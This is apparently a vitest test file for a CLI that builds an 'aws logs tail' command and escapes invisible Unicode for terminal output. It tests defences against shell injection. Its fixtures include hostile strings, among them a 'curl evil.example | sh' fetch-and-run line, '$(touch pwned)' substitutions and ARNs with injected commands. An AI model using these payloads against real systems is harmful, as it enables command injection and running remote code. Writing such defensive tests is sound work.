import { describe, expect, it } from 'vitest';
import { forTerminal } from '../../cli/format.js';
import { functionLogsCommand } from '../../cli/function-logs.js';

const FUNCTION = 'arn:aws:lambda:us-east-1:123456789012:function:factify-key-rotation';
const SAFE_ID = 'a1b2c3d4-e5f6-4711-8899-aabbccddeeff';

// Version ids are whatever ClientRequestToken the secret's writer chose (32 to 64 characters, any text).
const HOSTILE_VERSION_IDS = [
  `x' ;touch pwned;: '${'a'.repeat(20)}`,
  `x" }' ; curl evil.example | sh ; echo '${'b'.repeat(8)}`,
  `$(touch pwned)${'c'.repeat(24)}`,
  `\`touch pwned\`${'d'.repeat(24)}`,
  `${'e'.repeat(30)}\ntouch pwned`,
  `${'f'.repeat(31)} `,
  `${'g'.repeat(30)}\u202e\u200b`,
];

describe('the printed log command', () => {
  it('holds a version id it proved safe, in the documented shape', () => {
    const logs = functionLogsCommand(FUNCTION, SAFE_ID, 60);
    expect(logs).toEqual({
      command:
        `aws logs tail "$(aws lambda get-function-configuration --function-name factify-key-rotation --region us-east-1 --query LoggingConfig.LogGroup --output text)" --region us-east-1 --since 65m ` +
        `--filter-pattern '{ $.versionId = "${SAFE_ID}" }'`,
    });
  });

  it.each(HOSTILE_VERSION_IDS)('never holds a hostile version id (%j): it is shown apart, escaped', (id) => {
    const logs = functionLogsCommand(FUNCTION, id, 60);
    expect(logs?.command).toBe(
      'aws logs tail "$(aws lambda get-function-configuration --function-name factify-key-rotation --region us-east-1 --query LoggingConfig.LogGroup --output text)" --region us-east-1 --since 65m',
    );
    expect(logs?.command).not.toContain(id);
    // The operator still learns which version to look for, as data: a JSON string, never raw.
    expect(logs?.versionId).toBe(JSON.stringify(id));
  });

  it('is not printed at all for a function ARN whose name or region is not a plain Lambda name', () => {
    for (const arn of [
      "arn:aws:lambda:us-east-1:123456789012:function:x';touch pwned;'",
      'arn:aws:lambda:us-east-1;touch pwned:123456789012:function:rotation',
      'arn:aws:lambda:us-east-1:123456789012:function:$(id)',
    ]) {
      expect(functionLogsCommand(arn, SAFE_ID, 60)).toBeUndefined();
    }
  });

  it('accepts the boundaries of the safe shape, and nothing just outside them', () => {
    expect(functionLogsCommand(FUNCTION, 'A'.repeat(32), 1)?.versionId).toBeUndefined();
    expect(functionLogsCommand(FUNCTION, `a.b_c-${'9'.repeat(58)}`, 1)?.versionId).toBeUndefined();
    expect(functionLogsCommand(FUNCTION, 'A'.repeat(31), 1)?.versionId).toBe(JSON.stringify('A'.repeat(31)));
    expect(functionLogsCommand(FUNCTION, 'A'.repeat(65), 1)?.versionId).toBe(JSON.stringify('A'.repeat(65)));
  });
});

// Characters that change how a line reads without showing themselves.
const INVISIBLE: Record<string, string> = {
  'zero-width space U+200B': '\u200b',
  'right-to-left mark U+200F': '\u200f',
  'line separator U+2028': '\u2028',
  'paragraph separator U+2029': '\u2029',
  'left-to-right embedding U+202A': '\u202a',
  'right-to-left override U+202E': '\u202e',
  'right-to-left isolate U+2067': '\u2067',
  'arabic letter mark U+061C': '\u061c',
  'word joiner U+2060': '\u2060',
  'zero-width no-break space U+FEFF': '\ufeff',
  'soft hyphen U+00AD': '\u00ad',
  'tag latin small letter a U+E0061': '\u{e0061}',
  'cancel tag U+E007F': '\u{e007f}',
  'private use U+E000': '\ue000',
  'supplementary private use U+F0000': '\u{f0000}',
  'supplementary private use U+10FFFD': '\u{10fffd}',
  'interlinear annotation U+FFF9': '\ufff9',
  'escape U+001B': '\u001b',
  'C1 CSI U+009B': '\u009b',
  'carriage return': '\r',
};

function escaped(char: string): string {
  return [...Array(char.length).keys()]
    .map((index) => `\\u${char.charCodeAt(index).toString(16).padStart(4, '0')}`)
    .join('');
}

describe('forTerminal', () => {
  it.each(Object.entries(INVISIBLE))('shows %s escaped, never raw', (_name, char) => {
    const out = forTerminal(`key_ab${char}cd`);
    expect(out).not.toContain(char);
    // The JSON escape of each UTF-16 unit: visible as text, and a JSON document stays valid and decodes back.
    expect(out).toBe(`key_ab${escaped(char)}cd`);
    expect(JSON.parse(`"${out}"`)).toBe(`key_ab${char}cd`);
  });

  it('keeps the line breaks the CLI writes, ordinary text and printable non-ASCII', () => {
    expect(forTerminal('Orphaned keys\n  key_1  café  Zürich  日本')).toBe(
      'Orphaned keys\n  key_1  café  Zürich  日本',
    );
  });

  it('leaves no invisible or direction character in any line, whatever the mix', () => {
    const all = Object.values(INVISIBLE).join('x');
    expect(forTerminal(all)).toMatch(/^[\x20-\x7e]*$/);
  });
});
